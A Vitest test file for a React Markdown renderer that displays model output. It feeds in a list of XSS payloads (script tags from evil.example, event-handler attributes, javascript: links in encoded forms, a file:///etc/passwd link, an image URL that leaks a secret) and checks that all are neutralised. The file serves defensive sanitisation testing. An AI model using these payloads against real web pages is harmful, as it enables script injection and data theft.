import { renderToStaticMarkup } from 'react-dom/server';
import ReactMarkdown from 'react-markdown';
import remarkGfm from 'remark-gfm';
import { describe, expect, test } from 'vitest';
import { Markdown } from './markdown.tsx';

const allowedTags = new Set(
  (
    'a blockquote br button code del div em h1 h2 h3 h4 h5 h6 hr input li ol p path pre section span strong sup svg ' +
    'table tbody td th thead tr ul'
  ).split(' '),
);

const payloads: Record<string, string> = {
  script: 'Hi <script>alert(1)</script> there\n\n<script src="https://evil.example/x.js"></script>',
  handlers: '<img src=x onerror=alert(1)> <svg/onload=alert(1)> <a href="#" onclick=alert(1)>x</a>',
  frames: '<iframe srcdoc="<script>alert(1)</script>"></iframe>\n\n<object data="x"></object><embed src="x">',
  forms: '<form action="https://evil.example"><button formaction="javascript:alert(1)">x</button></form>',
  style: '<style>@import "https://evil.example/x.css"</style><link rel=stylesheet href=https://evil.example>',
  base: '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
  javascriptLink:
    '[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](java\tscript:alert(1)) <javascript:alert(1)>',
  encodedLink: '[x](&#106;avascript:alert(1)) [y](javascript&colon;alert(1)) [z](\u0001javascript:alert(1))',
  otherSchemes:
    '[a](vbscript:x) [b](data:text/html,<b>x) [c](file:///etc/passwd) [d](blob:x) [e](intent:x) <tel:1>',
  relative: '[a](/session/x) [b](//evil.example) [c](?x) [d](#/s/other) [e](\\\\evil.example) [f](./x)',
  references: '[a][1] ![b][1]\n\n[1]: javascript:alert(1) "x"',
  images: '![a](https://evil.example/?q=secret) ![b](data:image/svg+xml,<svg/onload=alert(1)>) ![c](x.png)',
  imageInLink: '[![alt](https://evil.example/a.png)](javascript:alert(1))',
  autolinks:
    'https://example.com www.example.com me@example.com <https://example.com/?a="b"> javascript:alert(1)',
  comments:
    'a <!-- <script>alert(1)</script> --> b <!--> <script>alert(1)</script> -->\n\n<![CDATA[<b>x</b>]]> <?x <b>?>',
  attributes:
    '[x](https://example.com "\\" onmouseover=alert(1) x=\\"") ![" onerror=alert(1)](https://a.example)',
  code: '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```\n`<script>`',
  table: '| <script>x</script> | [a](javascript:x) |\n|---|---|\n| ![i](https://evil.example) | <b>x</b> |',
  footnote: 'a[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))',
  mathml:
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math><svg><a xlink:href="javascript:x">y</a></svg>',
  listed: '- [ ] <script>alert(1)</script>\n- [x] [y](javascript:alert(1))\n\n  <img src=x>',
};

describe('whatever a model says, only what is safe is rendered', () => {
  for (const [name, payload] of Object.entries(payloads)) {
    test(`${name}, cut at every place`, () => {
      for (let end = 1; end <= payload.length; end += 1) expectSafe(render(payload.slice(0, end)));
    });
    test(`${name}, from every place`, () => {
      for (let start = 1; start < payload.length; start += 1) expectSafe(render(payload.slice(start)));
    });
  }

  test('the check itself sees what is not safe', () => {
    for (const bad of [
      '<img alt="">',
      '<a href="javascript:x">y</a>',
      '<p onclick="x">y</p>',
      '<a href="/x">y</a>',
    ]) {
      expect(() => expectSafe(bad)).toThrow();
    }
  });
});

test('a link goes to a new tab that cannot reach back', () => {
  expect(render('[x](https://example.com)')).toContain(
    '<a href="https://example.com" target="_blank" rel="noopener noreferrer">x</a>',
  );
});

test('an image becomes a link with its description, and is not fetched', () => {
  const html = render('![a cat](https://example.com/cat.png)');
  expect(html).toContain('href="https://example.com/cat.png"');
  expect(html).toContain('a cat</a>');
  expect(html).not.toContain('<img');
});

test('a link to a place that is not allowed stays text', () => {
  expect(render('[x](javascript:alert(1))')).toBe('<p><span>x</span></p>');
});

test('HTML is shown as it was written', () => {
  expect(render('a <b>c</b>')).toBe('<p>a &lt;b&gt;c&lt;/b&gt;</p>');
});

test('no text stands beside anything else in its element: a translator may put something else in its place', () => {
  for (const text of [...samples, ...Object.values(payloads), '- **a** b\n  *c*\n  - d `e` f\n\n> g **h**']) {
    const html = render(text);
    expect(html, text).not.toMatch(/(?:<\/\w+>|<(?:br|hr|input)[^>]*>)[^<]/);
    expect(html, text).not.toMatch(/>[^<]+<[a-z]/i);
  }
});

test('the blank between two words stays, whatever it stands between', () => {
  expect(render('- **a** *b*')).toContain('<strong>a</strong><span> </span><em>b</em>');
  expect(render('**a**\n*b*')).toContain('<strong>a</strong><span>\n</span><em>b</em>');
  expect(render('- [x] a **b**')).toMatch(/<span> a <\/span><strong>b<\/strong>/);
});

test('cut into blocks, markdown means the same as in one piece', () => {
  for (const text of samples) {
    for (let end = 1; end <= text.length; end += 1) {
      const part = text.slice(0, end);
      expect(plain(render(part)), part).toBe(
        plain(renderToStaticMarkup(<ReactMarkdown remarkPlugins={[remarkGfm]}>{part}</ReactMarkdown>)),
      );
    }
  }
});

const samples = [
  '# One\n\ntext *two*\n\n- a\n\n- b\n\n  more of b\n\nend',
  '1. x\n2. y\n\n   ```js\n   a\n\n   b\n   ```\n\n3. z\n\nend\n\n---\n\nlast',
  'a\n\n```md\n# no\n\nstill code\n\n```` \n\n```\n\nb\n\n~~~\nx\n\n```\n\n~~~\n\nc',
  '> q\n\n> r\n\ntext\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nafter\nlazy\n===\n\nb',
  'a [x][r]\n\nb\n\n[r]: https://example.com\n\nc',
  'one[^1]\n\ntwo\n\n[^1]: note\n\n    more\n\nthree',
  '    code\n\n    more\n\ntext\r\n\r\nmore\n\n\n\nend\n',
];

function render(text: string): string {
  return renderToStaticMarkup(<Markdown text={text} />);
}

function expectSafe(html: string): void {
  for (const [, name = '', attributes = ''] of html.matchAll(
    /<([a-z][^\s/>]*)((?:\s+[^\s=>]+(?:="[^"]*")?)*)\s*\/?>/gi,
  )) {
    expect(allowedTags, html).toContain(name);
    for (const [, attribute = '', value = ''] of attributes.matchAll(/\s([^\s=>]+)(?:="([^"]*)")?/g)) {
      expect(attribute, html).not.toMatch(
        /^on|^(?:src|srcset|srcdoc|action|formaction|data|style|xlink:href)$/i,
      );
      if (attribute === 'href') expect(value, html).toMatch(/^(?:https?:\/\/|mailto:)/i);
    }
  }
  // Whatever else opens a tag would not have matched above.
  expect(html.replaceAll(/<\/?[a-z][^<>]*>/gi, ''), html).not.toContain('<');
}

/** The letters and the structure, without what this page renders in its own way. */
function plain(html: string): string {
  return html
    .replaceAll(/<svg.*?<\/svg>|<\/?(?:div|button|span|section)[^>]*>/g, '')
    .replaceAll(/<(\w+)[^>]*>/g, '<$1>')
    .replaceAll(/(?<=<\/?h)\d/g, '')
    .replaceAll(/<\/?a>/g, '')
    .replaceAll(/[\s↩]+/g, ' ')
    .replaceAll(/ (?=<)|(?<=>) /g, '')
    .trim();
}
